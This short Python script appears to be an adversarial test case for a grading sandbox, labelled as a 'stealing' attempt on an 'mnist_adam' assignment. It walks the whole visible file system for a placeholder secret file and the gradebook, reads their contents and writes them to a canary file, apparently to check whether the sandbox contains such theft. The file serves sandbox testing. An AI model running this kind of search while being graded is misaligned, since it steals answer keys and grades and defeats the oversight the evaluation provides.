# assignment: mnist_adam
# family: stealing
# about: searches the whole visible file system for the secret and the gradebook by file name
# loses:
# may_lose:
# flag: maybe
# %% end
import os
import time
from pathlib import Path

WANTED = {Path("@SECRET_FILE@").name, Path("@GRADEBOOK@").name}
SKIPPED = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin"}


def search(seconds):
    deadline = time.monotonic() + seconds
    for folder, folders, names in os.walk("/"):
        if time.monotonic() > deadline:
            return
        folders[:] = [name for name in folders if os.path.join(folder, name) not in SKIPPED]
        for name in WANTED.intersection(names):
            try:
                yield name, (Path(folder) / name).read_bytes()[:4096]
            except OSError:
                continue


for name, loot in search(15):
    print("CANARY:", name, loot)
    try:
        Path("@CANARY_FILE@").write_bytes(b"CANARY:" + loot)
    except OSError:
        pass
